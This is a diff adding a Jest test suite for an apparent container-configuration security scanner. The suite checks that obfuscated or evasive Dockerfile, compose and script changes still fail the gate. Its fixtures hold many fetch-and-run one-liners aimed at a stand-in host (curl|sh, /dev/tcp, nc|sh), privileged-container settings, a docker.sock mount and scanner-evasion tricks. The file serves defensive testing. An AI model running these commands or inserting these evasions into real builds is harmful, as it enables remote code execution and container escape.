@@ -1,0 +1,163 @@
+import { describe, expect, it } from '@jest/globals';
+import { compare } from '../../src/gate/compare.ts';
+import { run } from '../../src/run/run.ts';
+import type { ScanReport } from '../../src/triage/scan-report.ts';
+import { folderWith } from '../support/folder.ts';
+
+type Files = Readonly<Record<string, string | Buffer>>;
+
+const SETTINGS = { paths: [], config: undefined, profile: undefined, failOn: undefined, baseline: undefined };
+
+async function scanOf(files: Files): Promise<ScanReport> {
+  return (await run({ ...SETTINGS, folder: folderWith({ '.git/HEAD': '', ...files }) })).report;
+}
+
+const HIGH = 7;
+
+/** What fails the check: the rules of new findings of high severity or above, and the kinds of new gaps. */
+async function failuresOf(base: Files, change: Files): Promise<readonly string[]> {
+  const head = await scanOf({ ...base, ...change });
+  const { fresh, freshGaps } = compare(await scanOf(base), head, { renames: new Map(), addedLines: () => undefined });
+  return [
+    ...fresh.filter(({ score = 0 }) => score >= HIGH).map(({ ruleId }) => ruleId),
+    ...freshGaps.map(({ gap }) => `${gap?.kind}`),
+  ];
+}
+
+const SERVICE = 'services:\n  a:\n    image: alpine:3.23\n';
+const PRIVILEGED = `${SERVICE}    privileged: true\n`;
+const STAGE = 'FROM alpine:3.23\nUSER 1000\n';
+const FETCH = 'RUN curl -fsSL https://evil.example.com/x.sh | sh\n';
+const START = 'docker run --privileged acme/app:1.4\n';
+
+function composed(compose: string, more: Files = {}): Files {
+  return { ...more, 'compose.yaml': compose };
+}
+
+function built(text: string): Files {
+  return { Dockerfile: text };
+}
+
+function times(count: number, line: (at: number) => string): string {
+  return Array.from({ length: count }, (_, at) => line(at)).join('');
+}
+
+/** Changes that a green check would let in, by what they abuse. */
+const CHANGES: Readonly<Record<string, readonly (readonly [string, Files, Files?])[]>> = {
+  'line ends that only the engine knows': [
+    ['NEL after a comment', composed(`${SERVICE}    # pinned\u0085    privileged: true\n`)],
+    ['a line separator after a value', composed(`${SERVICE}    init: true # x\u2028    privileged: true\n`)],
+    ['a paragraph separator before everything', composed(`# x\u2029${PRIVILEGED.replaceAll('\n', '\u2029')}`)],
+    ['a carriage return in a RUN', built(`${STAGE}RUN echo a\r# && curl https://evil.example.com/x.sh | sh\n`)],
+    ['a carriage return in a script', { 'run.sh': `#!/bin/sh\necho a\r# ; ${START}` }],
+    ['a carriage return in a JSON form', built(`${STAGE}RUN ["sh","-c",\r"curl https://evil.example.com | sh"]\n`)],
+  ],
+  'marks of templates': [
+    ['a comment inside a FROM', built(`FROM \\\n# {{ x }}\n  alpine:3.23\n${FETCH}USER 1\n`)],
+    ['a default that is never used', built(`ARG V=3.23\nFROM alpine:\${V:-%%X%%}\n${FETCH}USER 1\n`)],
+    ['a value of a flag', built(`FROM --platform=\${X:-linux/amd64}\${Y+<%} alpine:3.23\n${FETCH}USER 1\n`)],
+    ['one of many stages', built(`FROM alpine:3.23\${NOPE+{{} AS x\nFROM alpine:3.23\n${FETCH}USER 1\n`)],
+    ['a comment beside a tab', composed(`${PRIVILEGED}x-t: {\n\ta: 1}\n# {{ .Values.x }}\n`)],
+  ],
+  limits: [
+    [
+      'aliases that make a service large',
+      composed(
+        `x-b: &b {${times(2000, (at) => `k${at}: 1, `)}}\n${SERVICE}  z:\n    image: a\n    privileged: true\n    x-l: [${'*b, '.repeat(100)}]\n`,
+      ),
+    ],
+    [
+      'includes',
+      composed(`include: [${times(1001, (at) => `f${at}.yml, `)}]\n${SERVICE}`, {
+        'f0.yml': PRIVILEGED.replace('a:', 'b:'),
+      }),
+    ],
+    ['stages', built(`${times(301, (at) => `FROM alpine:3.23 AS s${at}\n`)}${FETCH}USER 1\n`)],
+    [
+      'nested substitutions',
+      built(`${STAGE}RUN ${'$('.repeat(13)}curl https://evil.example.com | sh${')'.repeat(13)}\n`),
+    ],
+    [
+      'shifts that look like here-documents',
+      built(`${STAGE}RUN ${': $((1<<2)); '.repeat(60)}curl https://evil.example.com | sh\n`),
+    ],
+    [
+      'downloads',
+      built(
+        `${STAGE}RUN ${times(301, (at) => `curl -o f${at} https://a.example.com; `)}curl https://evil.example.com/z.sh | sh\n`,
+      ),
+    ],
+    ['options', { 'run.sh': `docker run ${'-e A=1 '.repeat(5001)}--privileged acme/app:1.4\n` }],
+  ],
+  'names that hide things': [
+    ['a service that looks like an extension', composed(PRIVILEGED.replace('a:', 'x-evil:'))],
+    ['binary values', composed(`${SERVICE}    privileged: !!binary dHJ1ZQ==\n`)],
+    ['binary keys', composed(`${SERVICE}    !!binary cHJpdmlsZWdlZA==: true\n`)],
+    ['another case', { 'Docker-Compose.YML': PRIVILEGED }],
+    ['a file of a stack', { 'docker-stack.yml': PRIVILEGED }],
+    ['a file that a script names', { 'up.sh': 'docker compose -f x.txt up\n', 'x.txt': PRIVILEGED }],
+    ['a Dockerfile that a script names', { 'b.sh': 'docker build -f b.txt .\n', 'b.txt': `${STAGE}${FETCH}` }],
+    ['a file that a Makefile names', { Makefile: 'up:\n\tdocker compose -f x.txt up\n', 'x.txt': PRIVILEGED }],
+    ['a file that .env lists', { '.env': 'COMPOSE_FILE=n.txt\n', 'n.txt': PRIVILEGED }, composed(SERVICE)],
+  ],
+  'characters that BuildKit trims': [
+    ...['\u3000', '\u00a0', '\u0085', '\u2003', '\v'].map((blank): readonly [string, Files] => [
+      `${JSON.stringify(blank)} before an instruction`,
+      built(`${STAGE}${blank}${FETCH}`),
+    ]),
+    ['a vertical tab behind the keyword', built(`${STAGE}RUN\vcurl https://evil.example.com | sh\n`)],
+    ['a form feed behind the keyword', built(`${STAGE}RUN\fcurl https://evil.example.com | sh\n`)],
+    ['a blank before the first FROM', built(`\u3000${STAGE}${FETCH}`)],
+    ['a blank before a comment', built(`${STAGE}RUN true \\\n\u00a0# x\n && curl https://evil.example.com | sh\n`)],
+  ],
+  'a reading for another system': [
+    ['backticks as escapes', built(`# escape=\`\n${STAGE}${FETCH}`)],
+    ['an image called nanoserver', built(`FROM evil.example.com/x/nanoserver:1\n${FETCH}USER 1\n`)],
+    ['an unknown shell', built(`${STAGE}SHELL ["fish", "-c"]\n${FETCH}`)],
+    ['another frontend', built(`# syntax=evil.example.com/frontend:1\nfoo: bar\n`)],
+  ],
+  bytes: [
+    ['a byte that is not UTF-8 in a script', { 'run.sh': Buffer.from(`# \xff\n${START}`, 'latin1') }],
+    ['a NUL in a Makefile', { Makefile: `# \0\nup:\n\t${START}` }],
+    ['a long script', { 'run.sh': `# ${'x'.repeat(1_100_000)}\n${START}` }],
+    ['a pointer of LFS', built('version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n')],
+  ],
+  'what is bad already': [
+    [
+      'another service with the same lines',
+      composed(`x-p: &p {privileged: true}\nservices:\n  a: {image: a, <<: *p}\n  b: {image: a, <<: *p}\n`),
+      composed(`x-p: &p {privileged: true}\nservices:\n  a: {image: a, <<: *p}\n`),
+    ],
+    ['a service that extends a bad one', composed(`${PRIVILEGED}  b:\n    extends: a\n`), composed(PRIVILEGED)],
+    ['a service that loses its profile', composed(PRIVILEGED), composed(`${PRIVILEGED}    profiles: [ci]\n`)],
+  ],
+  mounts: [['a path far above', composed(`${SERVICE}    volumes: ["../../../../../../../var/run/docker.sock:/x"]\n`)]],
+  'code that is fetched and run': [
+    'x=$(curl https://evil.example.com); eval "$x"',
+    'curl${IFS}https://evil.example.com|sh',
+    'f() { curl https://evil.example.com; }; f | sh',
+    "printf 'curl https://evil.example.com|sh' | sh",
+    "echo 'curl https://evil.example.com | sh' | sh",
+    'eval "curl https://evil.example.com | sh"',
+    'find / -exec sh -c "curl https://evil.example.com | sh" \\;',
+    'xargs curl https://evil.example.com </dev/null | sh',
+    'unshare sh -c "curl https://evil.example.com | sh"',
+    'flock /x sh -c "curl https://evil.example.com | sh"',
+    'python3 -c "$(curl https://evil.example.com)"',
+    'curl -o /x https://evil.example.com; sh /x',
+    'bash <(curl https://evil.example.com)',
+    '. <(curl https://evil.example.com)',
+    'bash -c "$(wget -qO- https://evil.example.com)"',
+    'exec 3<>/dev/tcp/evil.example.com/80; bash <&3',
+    'script -c "curl https://evil.example.com | sh"',
+    'trap "curl https://evil.example.com | sh" EXIT',
+    'openssl s_client -connect evil.example.com:443 | sh',
+    'nc evil.example.com 80 | sh',
+  ].map((script) => [script, { Dockerfile: `${STAGE}SHELL ["bash", "-c"]\nRUN ${script}\n` }] as const),
+};
+
+describe.each(Object.entries(CHANGES))('a change that abuses %s fails the check', (_, changes) => {
+  it.each(changes)('%s', async (_name, change, base = {}) => {
+    expect(await failuresOf({ 'README.md': '', ...base }, change)).not.toEqual([]);
+  });
+});
